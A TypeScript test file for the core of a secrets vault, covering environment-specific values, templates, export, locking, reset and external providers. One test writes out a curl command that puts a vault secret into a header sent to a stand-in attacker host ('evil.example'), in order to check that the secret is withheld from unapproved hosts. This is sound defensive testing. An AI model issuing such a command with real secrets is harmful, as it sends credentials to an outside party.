import { beforeEach, describe, expect, test } from 'vitest';
import { valueOf } from '../../support/core.ts';
import { draft, faultyCore, newVault, type FaultyCore } from '../../support/faulty-core.ts';

let it: FaultyCore;
let key: string;

beforeEach(async () => {
  it = await faultyCore({ fresh: true });
  key = await newVault(it);
});

const text = (value: string) => new TextEncoder().encode(value);
const preview = () =>
  it.core.transfer.preview({ name: 'a.env', bytes: text('A=1\n'), format: 'dotenv' }, {});
const gone = { ok: false, problem: { code: 'import.gone' } };

describe('what the areas decide', () => {
  test('a value is that of the environment asked for, the active one, or the default', async () => {
    valueOf(await it.core.secrets.changeSettings({ environments: ['staging'] }));
    const environments = new Map([['staging', 's']]);
    const id = valueOf(await it.core.secrets.add({ ...draft('A', 'v'), environments }));
    const other = valueOf(await it.core.secrets.add(draft('B', 'w')));
    const { reveal } = it.core.secrets;
    const staging = { text: 's', environment: 'staging', missingIn: null };
    const byDefault = { text: 'v', environment: null, missingIn: null };
    expect(valueOf(await reveal(id))).toEqual(byDefault);
    expect(valueOf(await reveal(id, 'staging'))).toEqual(staging);
    valueOf(await it.core.secrets.changeSettings({ activeEnvironment: 'staging' }));
    expect(valueOf(await reveal(id))).toEqual(staging);
    expect(valueOf(await reveal(id, null))).toEqual(byDefault);
    const fallen = { text: 'w', environment: null, missingIn: 'staging' };
    expect(valueOf(await reveal(other))).toEqual(fallen);
    expect(valueOf(await reveal(other, null))).toEqual({ ...fallen, missingIn: null });
  });

  test('a list says where each secret has a value of its own', async () => {
    const list = async () => {
      const query = { text: '', order: 'name', offset: 0, limit: 10 } as const;
      const { rows } = valueOf(await it.core.secrets.list(query));
      return rows.map(({ name, environments }) => [name, environments]);
    };
    const environments = new Map([['staging', 's']]);
    valueOf(await it.core.secrets.changeSettings({ environments: ['staging', 'live'] }));
    valueOf(await it.core.secrets.add({ ...draft('A', 'v'), environments }));
    valueOf(await it.core.secrets.add(draft('B', 'w')));
    expect(await list()).toEqual([
      ['A', ['staging']],
      ['B', []],
    ]);
  });

  test('a vault can refuse what has no value in the environment in use, whoever asks', async () => {
    const refused = { ok: false, problem: { code: 'environment.noValue' } };
    const { secrets, templates, transfer } = it.core;
    const environments = new Map([['staging', 's']]);
    const settings = { environments: ['staging'], activeEnvironment: 'staging' };
    valueOf(await secrets.changeSettings(settings));
    valueOf(await secrets.add({ ...draft('A', 'v'), environments }));
    const other = valueOf(await secrets.add(draft('B', 'w')));
    const template = async () => {
      const { text, failed, defaults } = valueOf(
        await templates.resolve('A={{vault:A}} B={{vault:B}}', null, ['A', 'B']),
      );
      return { text, failed, defaults };
    };
    const file = async () => {
      const written = valueOf(await transfer.export({ format: 'dotenv' }, () => undefined));
      const { defaults, withoutOwn, count } = written;
      return { text: await written.file.text(), defaults, withoutOwn, count };
    };
    expect(await template()).toEqual({ text: 'A=s B=w', failed: [], defaults: ['B'] });
    const both = await file();
    expect(both).toMatchObject({ defaults: ['B'], withoutOwn: [], count: 2 });

    valueOf(await secrets.changeSettings({ needsOwnValue: true }));
    expect(await secrets.reveal(other)).toEqual(refused);
    // Asked for by name, the default value is what is meant.
    expect(valueOf(await secrets.reveal(other, null)).text).toBe('w');
    expect(await template()).toEqual({
      text: 'A=s B={{vault:B}}',
      failed: [{ name: 'B', problem: refused.problem }],
      defaults: [],
    });
    const one = await file();
    expect(one).toMatchObject({ defaults: [], withoutOwn: ['B'], count: 1 });
    expect(one.text).not.toContain('B=');

    valueOf(await secrets.changeSettings({ activeEnvironment: null }));
    expect(valueOf(await secrets.reveal(other)).text).toBe('w');
    expect((await file()).count).toBe(2);
  });

  test('a template takes in what may go where it would go, and nothing else', async () => {
    valueOf(await it.core.secrets.add(draft('A', 'v', 'api.example.com')));
    const to = (host: string) => `curl https://${host}/ -H "X: {{vault:A}}"`;
    const { resolve } = it.core.templates;
    expect(valueOf(await resolve(to('api.example.com'))).text).toContain('X: v');
    expect(valueOf(await resolve(to('evil.example'))).text).toBe(to('evil.example'));
    valueOf(await it.core.keys.lock());
    const problem = { code: 'notNow', state: 'locked' };
    expect(await resolve(to('api.example.com'))).toEqual({ ok: false, problem });
  });

  test('a reset has erased the vault, whatever becomes of the new key', async () => {
    valueOf(await it.core.secrets.add(draft('A', 'v')));
    valueOf(await it.core.keys.requestReset());
    it.fault.commit = (commits) =>
      commits.some(({ records }) => records.some(({ type }) => type === 'key.issued'));
    valueOf(await it.core.keys.confirmReset());
    expect(it.vault().chart.path).toBe('resetting.erasing');
    expect(await it.store.readSlots(it.vault().id)).toEqual([]);
    it.fault.commit = null;
    valueOf(await it.core.keys.issue());
    expect(it.vault().chart.path).toBe('keyShown');
  });

  test('a vault locks although the disk is full', async () => {
    it.fault.commit = () => true;
    valueOf(await it.core.keys.lock());
    expect(it.vault().chart.path).toBe('locked');
    expect(it.vault().inside).toBe(null);
  });

  test('a file that was read is forgotten by a lock, by dropping it, and once it was imported', async () => {
    const run = () => it.core.transfer.import('skip', () => undefined);
    valueOf(await preview());
    valueOf(await it.core.keys.lock());
    valueOf(await it.core.keys.unlock(key));
    expect(await run()).toEqual(gone);
    valueOf(await preview());
    valueOf(await it.core.transfer.drop());
    expect(await run()).toEqual(gone);
    valueOf(await preview());
    expect(valueOf(await run())).toEqual({ added: 1, changed: 0 });
    expect(await run()).toEqual(gone);
  });

  test('an external vault that was removed is asked nothing any more', async () => {
    const connection = { kind: 'onepassword', origin: 'https://c.example', token: 't' } as const;
    const id = valueOf(await it.core.providers.add({ name: 'P', connection }));
    valueOf(await it.core.providers.remove(id));
    const problem = { code: 'external.providerMissing' };
    expect(await it.core.providers.browse(id, [])).toEqual({ ok: false, problem });
    expect(await it.core.providers.read(id)).toEqual({ ok: false, problem });
  });
});
